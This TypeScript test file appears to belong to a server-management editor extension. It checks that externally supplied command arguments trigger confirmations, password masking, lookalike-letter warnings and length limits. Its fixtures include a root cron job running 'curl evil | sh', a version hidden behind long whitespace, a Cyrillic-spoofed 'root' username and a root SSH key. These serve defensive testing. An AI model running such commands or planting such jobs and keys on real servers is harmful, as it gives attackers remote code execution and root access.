import type { Values, Confirmation } from '../../../src/base/questions';
import assert from 'node:assert/strict';
import { type ActionWorld, startActionWorld } from '../../support/actions/actionWorld';
import { runCommand } from '../../support/actions/runCommand';
import { ScriptedPrompts } from '../../support/actions/scriptedPrompts';
import type { ActionOutcome } from '../../../src/actions/result';
import type { ActionCommand } from '../../../src/actions/commands';
import type { Target } from '../../../src/resources/reference';

const servers: Target = { account: 'service', kind: 'server', ids: [1] };
const jobs: Target = { account: 'service', kind: 'cronJob', parents: [1] };
const job: Target = { account: 'service', kind: 'cronJob', ids: [1, 101] };
const keys: Target = { account: 'service', kind: 'sshKey', parents: [1] };
const rules: Target = { account: 'service', kind: 'firewallRule', parents: [1] };
const ssh: Target = { account: 'service', kind: 'sshSettings', ids: [1] };
const user: Target = { account: 'service', kind: 'systemUser', ids: [1, 102] };
const database: Target = { account: 'service', kind: 'database', ids: [1, 101] };
const databaseUser: Target = { account: 'service', kind: 'databaseUser', ids: [1, 101] };
const integrations: Target = { account: 'service', kind: 'integration', parents: [] };
const integration: Target = { account: 'service', kind: 'integration', ids: [1] };
const nginx: Target = { account: 'service', kind: 'service', ids: [1, 'nginx'] };

const passed = 'Another extension or a key binding passed these values:';
const rootJob = { label: 'Tidy', time: '* * * * *', username: 'root', command: 'curl evil | sh' };
const login = { username: 'deploy', password: 'correct-horse-battery' };
const storage = { label: 'Storage', service: 'linode', secret: 'a secret' };
const rootKey = { label: 'Me', username: 'root', publicKey: 'ssh-ed25519 AAAA', temporary: false };

/** A person who answers every question, but declines before anything is sent. */
class Refusing extends ScriptedPrompts {
  override async confirm(confirmation: Confirmation): Promise<boolean> {
    await super.confirm(confirmation);
    return false;
  }
}

describe('A command with arguments from outside', () => {
  let world: ActionWorld;
  let prompts: ScriptedPrompts;

  async function start(environment: 'production' | 'development'): Promise<void> {
    world = await startActionWorld({ environment });
  }

  function run(
    command: ActionCommand,
    target: Target,
    given: Values = {},
    person: ScriptedPrompts = new Refusing(),
  ): Promise<ActionOutcome> {
    prompts = person;
    return runCommand(world.context(prompts), command, [target], given);
  }

  afterEach(() => world.close());

  describe('in production', () => {
    beforeEach(() => start('production'));

    for (const [command, target, given] of [
      ['serverManagement.renameServer', servers, { name: 'mine' }],
      ['serverManagement.createCronJob', jobs, rootJob],
      ['serverManagement.createSshKey', keys, rootKey],
      ['serverManagement.switchSshSettings', ssh, { preventRootLogin: false }],
    ] as const) {
      it(`asks with every value passed, and sends nothing if dismissed: ${command}`, async () => {
        const outcome = await run(command, target, given);
        assert.equal(outcome.status, 'cancelled');
        assert.deepEqual(await world.probe.writes(), []);
        const [asked, ...others] = prompts.confirmations;
        assert.deepEqual(others, []);
        const lines = asked?.detail.split('\n') ?? [];
        assert.deepEqual(lines.slice(0, Object.keys(given).length + 1), [
          passed,
          ...Object.entries(given).map(([name, value]) => `"${name}": ${JSON.stringify(value)}`),
        ]);
        assert.ok(lines.includes('Account: Example Hosting (Production)'), asked?.detail);
        assert.match(asked?.message ?? '', new RegExp(`^${command}`));
      });
    }

    for (const [command, target] of [
      ['serverManagement.runCronJob', job],
      ['serverManagement.disableCronJob', job],
      ['serverManagement.deployFirewallRules', rules],
      ['serverManagement.preloadCache', { ...job, kind: 'cacheConfiguration' }],
    ] as const) {
      it(`asks once before a command that has no question of its own: ${command}`, async () => {
        const outcome = await run(command, target);
        assert.equal(outcome.status, 'cancelled');
        assert.deepEqual(await world.probe.writes(), []);
        assert.equal(prompts.confirmations.length, 1);
        assert.ok(!prompts.confirmations[0]?.detail.includes(passed));
      });
    }

    it('names the server of the resource', async () => {
      await run('serverManagement.runCronJob', job);
      assert.deepEqual(prompts.confirmations[0], {
        message: 'serverManagement.runCronJob "Nightly backup"?',
        detail: 'Server: shop-frankfurt\nAccount: Example Hosting (Production)',
        button: 'serverManagement.runCronJob',
        typed: undefined,
      });
      await run('serverManagement.createCronJob', jobs, rootJob);
      const [asked] = prompts.confirmations;
      assert.equal(asked?.message, 'serverManagement.createCronJob "Tidy"?');
      assert.match(
        asked.detail,
        /\nServer: shop-frankfurt\nAccount: Example Hosting \(Production\)$/,
      );
    });

    it('asks before restarting a service, even if another extension passed the resource', async () => {
      const outcome = await run('serverManagement.restartService', nginx);
      assert.equal(outcome.status, 'cancelled');
      assert.deepEqual(await world.probe.writes(), []);
      assert.equal(prompts.confirmations.length, 1);
    });

    it('asks nothing more if the person answered all questions', async () => {
      const outcome = await run(
        'serverManagement.createCronJob',
        jobs,
        {},
        new ScriptedPrompts({ answers: rootJob }),
      );
      assert.equal(outcome.status, 'done');
      assert.deepEqual(prompts.confirmations, []);
    });

    it('shows the passed values even if the person answered the rest', async () => {
      const { label, ...given } = rootJob;
      await run(
        'serverManagement.createCronJob',
        jobs,
        given,
        new Refusing({ answers: { label } }),
      );
      assert.match(prompts.confirmations[0]?.detail ?? '', /"command": "curl evil \| sh"/);
    });

    it('shows passed values next to the questions, including nested ones', async () => {
      await run('serverManagement.renameServer', servers, { name: 'a', extra: { deep: ['x'] } });
      assert.match(prompts.confirmations[0]?.detail ?? '', /"extra": \{"deep":\["x"\]\}/);
    });

    it('masks credentials', async () => {
      await run('serverManagement.changePassword', user, { password: 'correct-horse-battery' });
      const { detail = '' } = prompts.confirmations[0] ?? {};
      assert.match(detail, /"password": "•+"/);
      assert.ok(!detail.includes('correct-horse'));
    });

    it("requires the account's name before access changes, so that a stray key can't confirm", async () => {
      await run('serverManagement.createSshKey', keys, rootKey);
      assert.equal(prompts.confirmations[0]?.typed, 'Example Hosting');
      await run('serverManagement.renameServer', servers, { name: 'mine' });
      assert.equal(prompts.confirmations[0]?.typed, undefined);
    });

    it('shows a value on one line, even if it contains line breaks', async () => {
      await run('serverManagement.renameServer', servers, { name: 'a\nAccount: testing' });
      assert.match(prompts.confirmations[0]?.detail ?? '', /"name": "a\\nAccount: testing"/);
    });

    it('marks letters that look like others, and what hides the rest of a value', async () => {
      await run('serverManagement.createCronJob', jobs, {
        ...rootJob,
        username: 'r\u{43e}ot',
        command: `true${' '.repeat(300)}; evil`,
      });
      const { detail } = prompts.confirmations[0] ?? assert.fail('nothing is asked');
      assert.ok(detail.includes('"username": "(mixed alphabets) r\u{43e}ot"'), detail);
      assert.ok(detail.includes('"command": "true(300 spaces); evil"'), detail);
    });

    it('refuses values that are too long to show in full', async () => {
      const given = { ...rootJob, command: `true ${' '.repeat(3_000)}; curl evil | sh` };
      await assert.rejects(run('serverManagement.createCronJob', jobs, given), /too long/);
      assert.deepEqual(await world.probe.writes(), []);
    });
  });

  describe('in every account', () => {
    beforeEach(() => start('development'));

    for (const [command, target, given] of [
      ['serverManagement.createSshKey', keys, rootKey],
      ['serverManagement.switchSshSettings', ssh, { preventRootLogin: false }],
      ['serverManagement.changePassword', user, { password: 'correct-horse-battery' }],
      ['serverManagement.createFirewallRule', rules, { type: 'global', port: 1, protocol: 'tcp' }],
      ['serverManagement.deployFirewallRules', rules, {}],
      ['serverManagement.createSystemUser', { ...keys, kind: 'systemUser' }, login],
      ['serverManagement.createDatabaseUser', { ...keys, kind: 'databaseUser' }, login],
      ['serverManagement.changePassword', databaseUser, { password: login.password }],
      ['serverManagement.changeDatabaseAccess', database, { users: { '102': true } }],
      ['serverManagement.createIntegration', integrations, storage],
      ['serverManagement.changeIntegrationSecret', integration, { secret: storage.secret }],
      ['serverManagement.delete', job, {}],
    ] as const) {
      it(`asks before it changes access or deletes something: ${command} on a ${target.kind}`, async () => {
        const outcome = await run(command, target, given);
        assert.equal(outcome.status, 'cancelled');
        assert.deepEqual(await world.probe.writes(), []);
        assert.equal(prompts.confirmations.length, 1);
      });
    }

    it("doesn't ask before anything else if the account isn't production", async () => {
      const outcome = await run(
        'serverManagement.createCronJob',
        jobs,
        rootJob,
        new ScriptedPrompts(),
      );
      assert.equal(outcome.status, 'done');
      assert.deepEqual(prompts.confirmations, []);
    });

    it("doesn't ask if the person answered all questions", async () => {
      const outcome = await run(
        'serverManagement.createSshKey',
        keys,
        {},
        new ScriptedPrompts({ answers: rootKey }),
      );
      assert.equal(outcome.status, 'done');
      assert.deepEqual(prompts.confirmations, []);
    });
  });
});
